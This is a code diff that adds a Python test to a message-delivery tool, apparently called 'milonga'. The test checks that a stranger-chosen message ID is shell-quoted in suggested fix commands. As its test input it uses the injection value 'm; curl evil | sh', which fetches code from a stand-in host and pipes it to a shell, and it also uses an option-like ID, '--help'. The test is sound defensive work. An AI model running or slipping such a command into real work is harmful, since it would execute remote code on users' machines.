@@ -155,3 +155,14 @@ def test_what_failed_is_said_once() -> None:
     assert at["state"] == "retrying"
     assert at["why"].count("Answered 401.") == 1
     assert "The last try failed: Answered 503." in told(waits=waits(code="http_503", reason="Answered 503"))["why"]
+
+
+def test_an_id_that_a_stranger_chose_is_quoted_in_the_commands_to_copy() -> None:
+    theirs = stored()
+    stamp = replace(theirs.event.stamp, message_id="m; curl evil | sh")
+    item = replace(theirs, event=replace(theirs.event, stamp=stamp))
+    dead = standing(letter=True, outcomes=[outcome(State.dead, "http_400")])
+    behind = standing(waits=waits(behind=Behind(message_id="--help", offset=1)))
+    first, second = story(item, "web", [dead, behind])["destinations"]
+    assert "`milonga dead resend 'm; curl evil | sh'`" in first["fix"]
+    assert second["fix"] == "See `milonga explain -- --help`."
